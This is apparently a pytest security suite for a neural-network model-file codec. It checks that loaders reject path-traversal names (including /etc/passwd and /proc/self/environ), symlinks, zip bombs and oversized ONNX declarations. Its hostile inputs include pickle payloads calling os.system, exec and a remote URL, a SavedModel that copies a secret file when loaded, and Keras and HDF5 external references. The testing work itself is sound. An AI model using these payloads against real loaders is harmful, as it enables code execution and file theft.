"""T36 to T40: model files that refer to other files, contain code, or declare more than their content.

Reading: models are read in a process whose opened files, imports and code are watched (`watch`). A folder `jail` has a
folder for each model; `outside` has the targets of the attacks, under every name that they may try. Writing: the tree
of the whole sandbox is compared.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import replace
from importlib.util import find_spec
from pathlib import Path
from xml.sax.saxutils import escape

import numpy as np
import pytest

import nnr_codec as nnr
from nnr_codec import formats
from nnr_codec.errors import FormatError, LimitError
from nnr_codec.limits import Limits
from nnr_codec.model import Array

from ..formats import onnx_files as onnx
from ..formats import test_tflite as tflite
from ..formats.support import dat, graph_text, write_folder
from ..formats.test_gguf import F32, file_of, info
from ..formats.test_labels import ATTACKS, escapes
from ..formats.torch_support import mapping, tensor
from .support import memory
from .watch import Seen, content, read_watched, untouched

pytestmark = pytest.mark.medium


SECRET = np.arange(6.25, 14.25, dtype=np.float32)

#: References to files, seen from a folder two below the sandbox's; {outside} is the folder with the secrets.
REFERENCES = [
    "../../outside/secret",
    "./../../outside/secret",
    "sub/../../../outside/secret",
    "sub/../../../outside/./secret",
    "{outside}/secret",
    "/{outside}/secret",
    "//{outside}/secret",
    "file:{outside}/secret",
    "file://{outside}/secret",
    "link",
    "chain",
    "linked/secret",
    "sub/link",
    "../secret",
    "../../secret",
    "..",
    ".",
    "./",
    "/",
    "sub",
    "sub/..",
    "pipe",
    "/dev/zero",
    "/dev/stdin",
    "/proc/self/environ",
    "/etc/passwd",
    "~/secret",
    "$HOME/secret",
    "..\\..\\outside\\secret",
    "sub\\..\\..\\..\\outside\\secret",
    "C:\\secret",
    "C:secret",
    "\\\\localhost\\share\\secret",
    "\\\\?\\C:\\secret",
    "%2e%2e/%2e%2e/outside/secret",
    "..%2f..%2foutside/secret",
    "..\0/secret",
    "secret\0.bin",
    "\N{FULLWIDTH FULL STOP}\N{FULLWIDTH FULL STOP}/secret",
    "..\N{DIVISION SLASH}secret",
    "x" * 300,
    "a/" * 2000 + "x",
    "",
]


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a folder with ``jail``, ``cwd`` and ``outside``."""
    for name in ("jail", "cwd", "outside"):
        (tmp_path / name).mkdir()
    for folder in ("outside", "cwd", ".", "jail"):
        (tmp_path / folder / "secret").write_bytes(SECRET.tobytes())
    monkeypatch.setenv("HOME", str(tmp_path / "outside"))
    return tmp_path


def cell(sandbox: Path, name: object) -> Path:
    """Return a model's folder, with links to the outside, a pipe and a folder in it."""
    folder = sandbox / "jail" / str(name)
    (folder / "sub").mkdir(parents=True)
    outside = sandbox / "outside"
    (folder / "link").symlink_to(outside / "secret")
    (folder / "chain").symlink_to("link")
    (folder / "linked").symlink_to(outside)
    (folder / "sub" / "link").symlink_to("../../../outside/secret")
    os.mkfifo(folder / "pipe")
    return folder


def assert_contained(found: Iterable[Seen], names: Iterable[str]) -> None:
    """Check that every model was rejected, and that nothing outside was opened, run or imported."""
    for seen, name in zip(found, names, strict=True):
        assert not seen.events, (name, seen)
        assert seen.outcome in ("refused", "OSError"), (name, seen)


def assert_references_stay_inside(sandbox: Path, make: Callable[[Path, str], Path], harmless: str = "harmless") -> None:
    """Check that models written by ``make``, which refer to a file by a name, open no file outside their folders."""
    outside = sandbox / "outside"
    names = [name.replace("{outside}", str(outside)) for name in REFERENCES]
    good = cell(sandbox, "good")
    (good / harmless).write_bytes(SECRET.tobytes())
    first = make(good, harmless)
    cases = [make(cell(sandbox, k), name) for k, name in enumerate(names)]
    with untouched(outside, sandbox / "cwd"):
        warm, *found = read_watched([first, *cases], warm=[first], cwd=sandbox / "cwd")
    # Evidence that the models are rejected for their names.
    assert warm.outcome == "read", warm
    assert SECRET.tobytes()[:16] in warm.tensors.values()
    assert_contained(found, names)


# ------------------------------------------------------------------------------------------------ the watch itself
class _Payload:
    def __reduce__(self) -> object:
        return os.system, ("true",)


@pytest.mark.slow
def test_the_watch_sees_what_it_is_for(sandbox: Path) -> None:
    folder = cell(sandbox, "x")
    (folder / "pickle").write_bytes(pickle.dumps({"w": _Payload()}))
    (seen,) = read_watched([folder / "pickle"], load="__import__('pickle').load(open(path, 'rb'))")
    events = {event for event, _ in seen.events}
    assert {"pickle.find_class", "os.system"} <= events
    (folder / "code").write_text("import this_module_is_not_there")
    (seen,) = read_watched([folder / "code"], load="exec(open(path).read())")
    assert (seen.outcome, seen.events[-1]) == ("ModuleNotFoundError", ("import", "this_module_is_not_there"))
    assert {event for event, _ in seen.events} == {"compile", "exec", "import"}
    for name in ("link", "chain", "linked/secret", "../../outside/secret"):
        (seen,) = read_watched([folder], load=f"open(path + '/{name}') and {{}}")
        assert seen.events == [("open", str(sandbox / "outside" / "secret"))]
    (seen,) = read_watched([folder], load="os.listdir(path) and open(path + '/pickle') and {}")
    assert (seen.outcome, seen.events) == ("read", [])


def test_the_kernel_reports_what_python_does_not(sandbox: Path) -> None:
    folder = cell(sandbox, "x")
    load = "__import__('ctypes').CDLL(None).fopen((path + '/link').encode(), b'rb') and {}"
    with pytest.raises(AssertionError, match="outside/secret"), untouched(sandbox / "outside"):
        read_watched([folder], load=load)


# ------------------------------------------------------------------------------------------------ T36, reading: names
def onnx_external(folder: Path, location: str) -> Path:
    return onnx.write(folder, onnx.model(tensors=[onnx.tensor("w", SECRET, onnx.entries(location))]))


def onnx_external_constant(folder: Path, location: str) -> Path:
    """Return such a reference in a Constant node in the body of another node."""
    body = onnx.graph([onnx.constant("c", onnx.tensor("", SECRET, onnx.entries(location)))])
    branch = onnx.node("If", ["x"], ["y"], then_branch=onnx.field(6, body))
    return onnx.write(folder, onnx.model([branch], [onnx.tensor("w", SECRET)]))


@pytest.mark.parametrize("make", [onnx_external, onnx_external_constant])
def test_t36_external_data_of_onnx(make: Callable[[Path, str], Path], sandbox: Path) -> None:
    assert_references_stay_inside(sandbox, make)


def safetensors_file(header: object, items: bytes = b"") -> bytes:
    data = json.dumps(header).encode()
    return len(data).to_bytes(8, "little") + data + items


def safetensors_shards(folder: Path, name: str) -> Path:
    """Return a model of one shard, with an index; the secrets are shards as well."""
    shard = safetensors_file({"w": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}}, SECRET.tobytes())
    root = folder.parent.parent
    for path in (root / "outside" / "secret", root / "secret", root / "jail" / "secret", folder / "harmless"):
        path.write_bytes(shard)
    path = folder / "model.safetensors.index.json"
    path.write_text(json.dumps({"metadata": {"total_size": 32}, "weight_map": {"w": name}}))
    return path


def test_t36_shards_of_safetensors(sandbox: Path) -> None:
    assert_references_stay_inside(sandbox, safetensors_shards)


# ------------------------------------------------------------------------------------------------ T36, reading: links
#: Replacements of a file of the model; the file itself is outside.
SPOILS: dict[str, Callable[[Path, Path], None]] = {
    "link": lambda path, outside: path.symlink_to(outside),
    "relative link": lambda path, outside: path.symlink_to(os.path.relpath(outside, path.parent)),
    "chain": lambda path, outside: (path.with_name("other-link").symlink_to(outside), path.symlink_to("other-link")),
    "pipe": lambda path, outside: os.mkfifo(path),
    "device": lambda path, outside: path.symlink_to("/dev/zero"),
    "folder": lambda path, outside: path.mkdir(),
}


def assert_links_are_not_followed(sandbox: Path, make: Callable[[Path], Path], members: Iterable[str]) -> None:
    """Check models of several files in which one file or its folder is outside, or is not a regular file."""
    outside = sandbox / "outside"
    first, cases, names = make(cell(sandbox, "good")), [], []
    for member in members:
        for kind, spoil in SPOILS.items():
            path = make(cell(sandbox, f"{len(cases)}"))
            folder = path if path.is_dir() else path.parent
            target = outside / f"{len(cases)}"
            (folder / member).rename(target)
            spoil(folder / member, target)
            cases.append(path)
            names.append(f"{member}: {kind}")
    with untouched(outside, sandbox / "cwd"):
        warm, *found = read_watched([first, *cases], warm=[first], cwd=sandbox / "cwd")
    assert warm.outcome == "read", warm
    assert not warm.events
    for seen, name in zip(found, names, strict=True):
        assert not seen.events, (name, seen)
        # Parts that no longer belong to the model may be omitted.
        assert seen.outcome in ("refused", "OSError") or name.startswith("deep:") or name.endswith(": folder"), seen


def skriptnd_folder(folder: Path) -> Path:
    text = b"graph Net {\n    @variable {\n        w: real[8];\n    }\n}\n"
    files = {
        "main.sknd": text,
        "part.sknd": b"operator F { @variable { v: real[8]; } }\n",
        "main.Net.w.dat": dat(SECRET),
        "deep/main.Net.v.dat": dat(SECRET),
    }
    return write_folder(folder / "model", files)


def openvino_text(name: str, shape: str) -> bytes:
    """Return an IR of one constant of eight floats."""
    data = f'<data element_type="f32" shape="{shape}" offset="0" size="32"/>'
    dims = "".join(f"<dim>{extent}</dim>" for extent in shape.split(","))
    port = f'<output><port id="0" precision="FP32">{dims}</port></output>'
    layer = f'<layer id="0" name="{name}" type="Const" version="opset1">{data}{port}</layer>'
    return f'<?xml version="1.0"?>\n<net name="n" version="11"><layers>{layer}</layers></net>'.encode(errors="replace")


def openvino_pair(folder: Path) -> Path:
    return write_folder(folder, {"model.xml": openvino_text("w", "8"), "model.bin": SECRET.tobytes()}) / "model.xml"


def onnx_beside(folder: Path) -> Path:
    (folder / "sub" / "data").write_bytes(SECRET.tobytes())
    return onnx_external(folder, "sub/data")


def safetensors_beside(folder: Path) -> Path:
    safetensors_shards(folder, "harmless")
    return folder / "model.safetensors.index.json"


def keras_folder(folder: Path) -> Path:
    h5py = pytest.importorskip("h5py")
    with h5py.File(folder / "weights", "w") as file:
        file["w"] = SECRET
    members = keras_members(**{"model.weights.h5": (folder / "weights").read_bytes(), "assets/a": b"text"})
    return write_folder(folder / "model", members)


def nnef_folder(folder: Path) -> Path:
    return write_folder(folder / "model", {"graph.nnef": graph_text({"a/w": SECRET}), "a/w.dat": dat(SECRET)})


@pytest.mark.parametrize(
    ("make", "members"),
    [
        (nnef_folder, ("graph.nnef", "a/w.dat", "a")),
        (skriptnd_folder, ("main.sknd", "part.sknd", "main.Net.w.dat", "deep/main.Net.v.dat", "deep")),
        (openvino_pair, ("model.bin",)),
        (onnx_beside, ("sub/data", "sub")),
        (safetensors_beside, ("harmless",)),
        pytest.param(
            keras_folder,
            ("metadata.json", "config.json", "model.weights.h5", "assets/a", "assets"),
            marks=pytest.mark.clients,
        ),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_t36_links_in_the_place_of_files(make: Callable[[Path], Path], members: tuple[str, ...], sandbox: Path) -> None:
    assert_links_are_not_followed(sandbox, make, members)


# ------------------------------------------------------------------------------------------------ T36, writing
NAMES = [
    "w",
    "block/w",
    *ATTACKS,
    "{outside}/secret",
    "../outside/secret",
    "../../outside/secret",
    "graph.nnef",
    "main.sknd",
    "tensors.json",
]
GRID = (np.arange(8).reshape(2, 4) / 256).astype(np.float32)  # values that all formats support, including Q7.8


#: File extensions of all written formats, one of each that has the same file.
ENDINGS = (
    *(".nnef", ".nnef.tar", ".sknd", ".xml", ".onnx", ".pt", ".safetensors", ".safetensors.index.json", ".npz", ".npy"),
    *(".keras", ".weights.h5", ".savedmodel", ".index", ".gguf", ".tflite", ".openvx"),
)


def topology_for(suffix: str, label: str = "w") -> nnr.Topology | None:
    """Return a topology with a tensor of this name, for the formats that need one."""
    text = label.encode("utf-8", "replace").decode()
    topologies = {
        ".nnef": ("nnef", graph_text({text: GRID})),
        ".nnef.tar": ("nnef", graph_text({text: GRID})),
        ".sknd": ("", b"graph Net {\n}\n"),
        ".xml": ("", openvino_text(escape(text, {'"': "&quot;"}), "2,4")),
        ".onnx": ("onnx", onnx.model(tensors=[onnx.tensor(text, GRID, b"")])),
        ".tflite": ("", tflite_topology(text)),
        ".gguf": ("", file_of([info(text, [4, 2], F32, 0)])),
        ".keras": ("tensorflow", b'{"module": "keras", "class_name": "Sequential", "config": {}}'),
        ".savedmodel": ("tensorflow", b"\x08\x01"),
    }
    return nnr.Topology(*topologies[suffix]) if suffix in topologies else None


def tflite_topology(text: str) -> bytes:
    """Return a graph with a tensor of this name, which is so small that it stays in the graph."""
    model = formats.load(tflite.file_of([tflite.tensor(text, [2, 4], 0, 1)], [tflite.buffer(GRID.tobytes())]))
    assert model.topology is not None
    return model.topology.data


def need(*packages: str) -> None:
    """Skip the test unless these packages are installed."""
    for package in packages:
        if find_spec(package) is None:
            pytest.skip(f"the package {package} (extra {package!r}) is not installed")


def saved(name: str, model: nnr.Model, target: Path) -> bool:
    """Return whether a model can be written; warnings are ignored."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            formats.writing(name).save(model, target, overwrite=False)
        except nnr.FormatError:
            return False
    return True


def assert_contained_output(sandbox: Path, before: dict[str, object], target: Path) -> set[str]:
    """Check that only the target, or names that extend its name, are new, and remove them."""
    after = content(sandbox)
    assert {name: after.get(name, "gone") for name in before} == before
    base = target.relative_to(sandbox).as_posix()
    stem = base.partition(".")[0]
    fresh = after.keys() - before.keys()
    for name in sorted(fresh, reverse=True):
        assert name == base or name.startswith((f"{base}/", f"{stem}.", f"{stem}-")), name
        assert after[name] == "other" or isinstance(after[name], bytes), (name, "is a link")
        assert not escapes(name.removeprefix("jail/")), name
        (sandbox / name).rmdir() if after[name] == "other" else (sandbox / name).unlink()
    return fresh


@pytest.mark.parametrize("suffix", ENDINGS)
def test_t36_names_of_tensors_as_paths(suffix: str, sandbox: Path) -> None:
    """They are rejected or written below the target, with names that are unambiguous on each system."""
    name, before, written = formats.by_suffix(suffix).NAME, content(sandbox), 0
    need(*getattr(formats.get(name), "NEEDS", ()), *getattr(formats.get(name), "NEEDS_TO_WRITE", ()))
    for k, label in enumerate(each.replace("{outside}", str(sandbox / "outside")) for each in NAMES):
        target = sandbox / "jail" / f"m{k}{suffix}"
        done = saved(name, nnr.Model({label: GRID}, topology_for(suffix, label)), target)
        fresh = assert_contained_output(sandbox, before, target)
        assert bool(fresh) == done, label
        written += done
    assert written


def test_every_format_that_is_written_has_an_ending_here() -> None:
    writing = {name for name in formats.names() if isinstance(formats.get(name), formats.Writing)}
    assert {formats.by_suffix(suffix).NAME for suffix in ENDINGS} == writing


#: Metadata with names of files: the file extension of the target, and the entry with the name.
METADATA: dict[str, tuple[str, Callable[[str], dict[str, str]]]] = {
    "skriptnd": (".sknd", lambda name: {f"skriptnd:{name}.sknd": "# text\n"}),
    "skriptnd module": (".sknd", lambda name: {f"skriptnd:{name}": "# text\n"}),
    "skriptnd tensor": (".sknd", lambda name: {f"skriptnd:{name}.dat": "00"}),
    "safetensors shard": (
        ".safetensors.index.json",
        lambda name: {"safetensors:shards": json.dumps({"runs": [1, 0], "names": [f"{name}.safetensors"]})},
    ),
    "safetensors name": (
        ".safetensors.index.json",
        lambda name: {"safetensors:shards": json.dumps({"runs": [1, 0], "names": [name]})},
    ),
    "safetensors stem": (
        ".safetensors.index.json",
        lambda name: {"safetensors:shards": json.dumps({"runs": [1, 0], "stem": name})},
    ),
    "safetensors stem of a folder": (
        "",
        lambda name: {"safetensors:shards": json.dumps({"runs": [1, 0], "stem": name})},
    ),
    "keras": (".keras", lambda name: {f"keras:text:{name}": "text"}),
    "keras bytes": (".keras", lambda name: {f"keras:bytes:{name}": "text"}),
    "tensorflow": (".savedmodel", lambda name: {f"tensorflow:text:{name}": "text"}),
    "tensorflow bytes": (".savedmodel", lambda name: {f"tensorflow:bytes:{name}": "text"}),
}


@pytest.mark.parametrize("kind", METADATA)
def test_t36_names_in_metadata_as_paths(kind: str, sandbox: Path) -> None:
    """The names are in metadata of a bitstream, for files that are restored beside the tensors."""
    suffix, metadata = METADATA[kind]
    name, before = kind.partition(" ")[0], content(sandbox)
    need(*getattr(formats.get(name), "NEEDS", ()), *getattr(formats.get(name), "NEEDS_TO_WRITE", ()))
    for k, label in enumerate(each.replace("{outside}", str(sandbox / "outside")) for each in NAMES):
        target = sandbox / "jail" / f"m{k}{suffix}"
        done = saved(name, nnr.Model({"w": GRID}, topology_for(suffix), metadata=metadata(label)), target)
        if target.suffix == ".keras" and done:
            with zipfile.ZipFile(target) as archive:
                assert {*map(escapes, archive.namelist())} <= {"", "macOS: is another path"}
        fresh = assert_contained_output(sandbox, before, target)
        assert bool(fresh) == done, label


# ------------------------------------------------------------------------------------------------ T37: archives
def npy(array: Array) -> bytes:
    file = io.BytesIO()
    np.save(file, array)
    return file.getvalue()


MANY = 32 << 20
SMALL = Limits(max_archive_bytes=1 << 20, max_topology_bytes=1 << 16, max_side_info_bytes=1 << 16, max_names=1000)


def zipped(members: Mapping[str, bytes], size: int | None = None) -> bytes:
    """Return a deflated archive; with ``size`` all members declare this size in bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    data = file.getvalue()
    for member in archive.infolist() if size is not None else ():
        one = struct.pack("<LLL", member.CRC, member.compress_size, member.file_size)
        assert data.count(one) == 2
        data = data.replace(one, one[:8] + struct.pack("<L", size))
    return data


def keras_members(**members: bytes) -> dict[str, bytes]:
    usual = {"metadata.json": b"{}", "config.json": b'{"module": "keras", "class_name": "Sequential"}'}
    return {**usual, "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(88), **members}


def torch_members(**members: bytes) -> dict[str, bytes]:
    usual = {"data.pkl": b"\x80\x02}q\x00.", "version": b"3\n", "data/0": bytes(32)}
    return {f"archive/{name}": data for name, data in {**usual, **members}.items()}


ARCHIVES = {
    "npz": {"w.npy": npy(np.zeros(MANY, np.uint8))},
    "npz, another member": {"w.npy": npy(GRID), "x.npy": bytes(MANY)},
    "keras, weights": keras_members(**{"model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(MANY)}),
    "keras, configuration": keras_members(**{"config.json": b'{"a": "' + b" " * MANY}),
    "keras, metadata": keras_members(**{"metadata.json": bytes(MANY)}),
    "keras, assets": keras_members(**{"assets/a": bytes(MANY)}),
    "pytorch, pickle": torch_members(**{"data.pkl": b"\x80\x02" + b"N0" * (MANY // 2) + b"N."}),
    "pytorch, storage": torch_members(
        **{"data.pkl": mapping({"w": tensor(MANY // 4, 0, (MANY // 4,), (1,))}), "data/0": bytes(MANY)}
    ),
}


@pytest.mark.parametrize("size", [None, 100], ids=["said", "not said"])
@pytest.mark.parametrize("kind", ARCHIVES)
def test_t37_archives_that_expand(kind: str, size: int | None, tmp_path: Path) -> None:
    """They expand a thousandfold, declared or not, and are rejected before they are in memory."""
    members, path = ARCHIVES[kind], tmp_path / "model"
    path.write_bytes(zipped(members, size))
    assert path.stat().st_size < MANY // 500
    with memory() as used, pytest.raises((FormatError, LimitError)):
        dict(formats.load(path, limits=SMALL).tensors)
    assert used.peak < MANY // 8


@pytest.mark.parametrize("name", ["other", "w.dat"])
def test_t37_members_of_a_gzipped_tar_that_are_no_tensors(name: str, tmp_path: Path) -> None:
    """With the default limits, they are rejected by their size before they are inflated."""
    path = tmp_path / "model.tgz"
    with tarfile.open(path, "w:gz") as archive:
        for member, data in (("graph.nnef", graph_text({"w": GRID})), (name, bytes(96 << 20))):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    with memory() as used, pytest.raises(LimitError, match="neither text nor tensor file"):
        formats.load(path)
    assert used.peak < 8 << 20


@pytest.mark.parametrize("name", ["npz", "keras", "pytorch"])
def test_t37_archives_of_many_members(name: str, tmp_path: Path) -> None:
    need(*getattr(formats.get(name), "NEEDS", ()))
    usual = {"npz": {"w.npy": npy(GRID)}, "keras": keras_members(), "pytorch": torch_members()}[name]
    root = "archive/" if name == "pytorch" else "assets/" if name == "keras" else ""
    path = tmp_path / "model"
    path.write_bytes(zipped({**usual, **{f"{root}x{k}.npy": b"" for k in range(2000)}}))
    with pytest.raises(LimitError, match="max_names"):
        formats.load(path, limits=replace(SMALL, max_topology_bytes=1 << 20))


# ------------------------------------------------------------------------------------------------ T38: ONNX
def huge(*dims: int, data: bytes = onnx.field(9, bytes(8))) -> bytes:
    """Return a tensor that declares these extents."""
    return b"".join(onnx.field(1, extent) for extent in dims) + onnx.field(2, 1) + onnx.field(8, "w") + data


def nested(depth: int) -> bytes:
    """Return graphs in nodes in graphs."""
    body = onnx.graph([onnx.constant("c", onnx.tensor("", SECRET))])
    for _ in range(depth):
        body = onnx.graph([onnx.node("If", ["x"], ["y"], then_branch=onnx.field(6, body))])
    return onnx.field(1, 8) + onnx.field(7, body)


HOSTILE_ONNX = {
    "extents": onnx.model(tensors=[huge(1 << 40, 1 << 20)]),
    "extents that wrap": onnx.model(tensors=[huge(1 << 33, 1 << 31)]),
    "negative extents": onnx.model(tensors=[huge(-2, -1)]),
    "too few bytes": onnx.model(tensors=[huge(1 << 28)]),
    "external offset": onnx.model(tensors=[huge(8, data=onnx.entries("data", 1 << 62, 32))]),
    "external offset below": onnx.model(tensors=[huge(8, data=onnx.entries("data", -32, 32))]),
    "external offset that is none": onnx.model(tensors=[huge(8, data=onnx.entries("data", "1e9", 32))]),
    "external offset of many digits": onnx.model(tensors=[huge(8, data=onnx.entries("data", "9" * 100_000, 32))]),
    "external length": onnx.model(tensors=[huge(8, data=onnx.entries("data", 0, 1 << 40))]),
    "external end": onnx.model(tensors=[huge(8, data=onnx.entries("data", 8))]),
    "nested graphs": nested(5000),
    "a length beyond the end": onnx.model()[:-4] + onnx.varint(7 * 8 + 2) + onnx.varint(1 << 40),
    "a length beyond 64 bits": onnx.model() + b"\x3a" + b"\xff" * 20,
    "the same name twice": onnx.model(tensors=[onnx.tensor("w", SECRET)] * 2),
    "sparse extents": onnx.model(
        more=onnx.field(
            15,
            onnx.field(1, onnx.tensor("w", SECRET))
            + onnx.field(2, onnx.tensor("", np.arange(8)))
            + onnx.field(3, 1 << 62),
        )
    ),
}


@pytest.mark.parametrize("kind", HOSTILE_ONNX)
def test_t38_onnx(kind: str, tmp_path: Path) -> None:
    """Memory is bounded by the size of the file, whatever it declares."""
    path = onnx.write(tmp_path, HOSTILE_ONNX[kind])
    (tmp_path / "data").write_bytes(SECRET.tobytes())
    allowed = (8 << 20) + 20 * path.stat().st_size
    with memory() as used, contextlib.suppress(FormatError, LimitError):
        model = formats.load(path, format="onnx")
        tensors = dict(model.tensors)
        assert all(array.nbytes <= path.stat().st_size for array in tensors.values())
        assert kind in ("the same name twice", "sparse extents"), tensors
    assert used.peak < allowed


# ------------------------------------------------------------------------------------------------ T39: code
class _Code:
    """Object whose pickle calls a function of a module with arguments."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self._reduced = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self._reduced


@pytest.mark.slow
def test_t39_pickles_of_pytorch(sandbox: Path) -> None:
    """The zip format and the old one are tested, with every opcode by which a pickle can run something."""
    torch = pytest.importorskip("torch", reason="the package torch (extra 'torch') is not installed")
    folder, mark = cell(sandbox, "x"), sandbox / "cwd" / "mark"
    weights = {"w": torch.from_numpy(SECRET)}
    payloads = [
        _Code(os.system, f"touch {mark}"),
        _Code(exec, f"open({str(mark)!r}, 'w')"),
        _Code(eval, f"open({str(mark)!r}, 'w')"),
        _Code(open, str(mark), "w"),
        _Code(__import__, "antigravity"),
        _Code(Path.touch, mark),
        _Code(torch.load, str(sandbox / "outside" / "secret")),
        _Code(torch.hub.load_state_dict_from_url, "http://192.0.2.1/x.pt"),
        _Code(np.load, str(sandbox / "outside" / "secret")),
    ]
    cases = []
    for k, payload in enumerate(payloads):
        for old in (False, True):
            for protocol in (2, 4):
                path = folder / f"{k}{old}{protocol}.pt"
                content_ = {**weights, "x": payload}
                torch.save(content_, path, _use_new_zipfile_serialization=not old, pickle_protocol=protocol)
                cases.append(path)
    opcodes = {
        "GLOBAL": b"cposix\nsystem\n(V%s\ntR.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x05posix\x8c\x06system\x93(V%s\ntR.",
        "INST": b"(V%s\niposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\nV%s\no.",
        "NEWOBJ": b"cposix\nsystem\n(V%s\nt\x81.",
        "BUILD": b"ccollections\nOrderedDict\n)R}(V__class__\ncposix\nsystem\nsb.",
    }
    for name, pickled in opcodes.items():
        members = torch_members(**{"data.pkl": pickled.replace(b"%s", f"touch {mark}".encode())})
        (folder / f"{name}.pt").write_bytes(zipped(members))
        cases.append(folder / f"{name}.pt")
    good = [folder / "good.pt", folder / "old.pt"]
    torch.save(weights, good[0])
    torch.save(weights, good[1], _use_new_zipfile_serialization=False)
    with untouched(sandbox / "outside", sandbox / "cwd"):
        first, second, *found = read_watched([*good, *cases], warm=good, cwd=sandbox / "cwd")
    assert (first.outcome, second.outcome) == ("read", "read"), (first, second)
    assert not mark.exists()
    assert_contained(found, [case.name for case in cases])
    assert all(seen.outcome == "refused" for seen in found)


LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "lambda",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": "4wAAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMK", "defaults": None, "closure": None},
        },
    },
}
FOREIGN = {"module": "this_module_is_not_there", "class_name": "Thing", "config": {}, "registered_name": "x>Thing"}


def keras_files(folder: Path, layer: object, mark: Path) -> Iterator[Path]:
    """Return models of every kind with the layer in their configuration, and pickles in all possible places."""
    h5py = pytest.importorskip("h5py")
    pickled = pickle.dumps(_Code(os.system, f"touch {mark}"))
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
    for name in ("model.h5", "model.weights.h5"):
        with h5py.File(folder / name, "w") as file:
            file["layers/dense/vars/0"] = SECRET
            file["layers/dense"].attrs["pickled"] = np.void(pickled)
            if name == "model.h5":
                file.attrs["model_config"] = json.dumps(config)
                file.attrs["keras_version"] = "2.15.0"
                file.attrs["backend"] = "tensorflow"
                file.attrs["training_config"] = json.dumps({"optimizer_config": FOREIGN, "loss": LAMBDA})
    members = keras_members(**{"config.json": json.dumps(config).encode(), "assets/x.pkl": pickled})
    members["model.weights.h5"] = (folder / "model.weights.h5").read_bytes()
    (folder / "model.keras").write_bytes(zipped(members))
    yield from (folder / name for name in ("model.h5", "model.weights.h5", "model.keras"))
    yield write_folder(folder / "model", members)


@pytest.mark.clients
def test_layers_of_keras(sandbox: Path) -> None:
    """They are kept as text: no code is unmarshalled, no class is imported, and the tensors are read."""
    mark = sandbox / "cwd" / "mark"
    good = list(keras_files(cell(sandbox, "good"), {"module": "keras.layers", "class_name": "Dense"}, mark))
    cases = [path for k, layer in enumerate((LAMBDA, FOREIGN)) for path in keras_files(cell(sandbox, k), layer, mark)]
    with untouched(sandbox / "outside", sandbox / "cwd"):
        found = read_watched(cases, warm=good, cwd=sandbox / "cwd")
    assert not mark.exists()
    for seen, case in zip(found, cases, strict=True):
        assert (seen.outcome, seen.events) == ("read", []), (case, seen)
        assert list(seen.tensors.values()) == [SECRET.tobytes()[:16]]


@pytest.mark.clients
def test_references_of_hdf5(sandbox: Path) -> None:
    """The files contain links to other files, items in other files, and virtual datasets."""
    h5py = pytest.importorskip("h5py")
    folder, outside = cell(sandbox, "x"), sandbox / "outside"
    with h5py.File(outside / "other.h5", "w") as file:
        file["w"] = SECRET
    kinds = ("good", "link", "folder link", "soft link", "raw", "virtual")
    for kind in kinds:
        with h5py.File(folder / f"{kind}.h5", "w") as file:
            file["w"] = SECRET
            if kind == "link":
                file["v"] = h5py.ExternalLink(str(outside / "other.h5"), "/w")
            elif kind == "folder link":
                file["g"] = h5py.ExternalLink("../../outside/other.h5", "/")
            elif kind == "soft link":
                file["v"] = h5py.SoftLink("/w")
            elif kind == "raw":
                file.create_dataset("v", (8,), "f4", external=[(str(outside / "secret"), 0, 32)])
            elif kind == "virtual":
                layout = h5py.VirtualLayout((8,), "f4")
                layout[:] = h5py.VirtualSource(str(outside / "other.h5"), "w", (8,))
                file.create_virtual_dataset("v", layout)
    with untouched(outside, sandbox / "cwd"):
        paths = [folder / f"{kind}.h5" for kind in kinds]
        good, *found = read_watched(paths, warm=paths[:1], cwd=sandbox / "cwd")
    assert good.outcome == "read"
    assert_contained(found, kinds[1:])


SAVED_MODEL = """
import sys
import tensorflow as tf

folder, mark, secret = sys.argv[1:]


class Resource(tf.saved_model.experimental.TrackableResource):
    def __init__(self):
        super().__init__()
        self.resource_handle

    def _create_resource(self):
        return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

    def _initialize(self):
        tf.io.write_file(mark, tf.io.read_file(secret))


class Model(tf.Module):
    def __init__(self):
        self.w, self.resource = tf.Variable(range(8), dtype=tf.float32), Resource()

    @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
    def __call__(self, x):
        tf.io.write_file(mark, tf.io.read_file(secret))
        return self.w * tf.py_function(float, [x], tf.float32)


tf.saved_model.save(Model(), folder)
"""


@pytest.mark.tensorflow
def test_operations_of_a_saved_model(sandbox: Path) -> None:
    """The model would write files when TensorFlow loads it, which is never called."""
    pytest.importorskip("tensorflow")
    mark, secret = sandbox / "cwd" / "mark", sandbox / "outside" / "secret"
    good, evil = cell(sandbox, "good") / "model", cell(sandbox, "evil") / "model"
    for folder, name in ((good, "harmless"), (evil, mark)):
        command = [sys.executable, "-c", SAVED_MODEL, str(folder), str(sandbox / "jail" / name), str(secret)]
        subprocess.run(command, check=True, capture_output=True)
    mark.unlink(missing_ok=True)
    with untouched(sandbox / "outside", sandbox / "cwd"):
        (seen,) = read_watched([evil], warm=[good], cwd=sandbox / "cwd")
    assert (seen.outcome, seen.events) == ("read", [])
    assert np.arange(8, dtype=np.float32).tobytes()[:16] in seen.tensors.values()
    assert not mark.exists()
    load = "import sys, tensorflow as tf; tf.saved_model.load(sys.argv[1])"
    subprocess.run([sys.executable, "-c", load, str(evil)], check=True, capture_output=True)
    assert mark.exists()


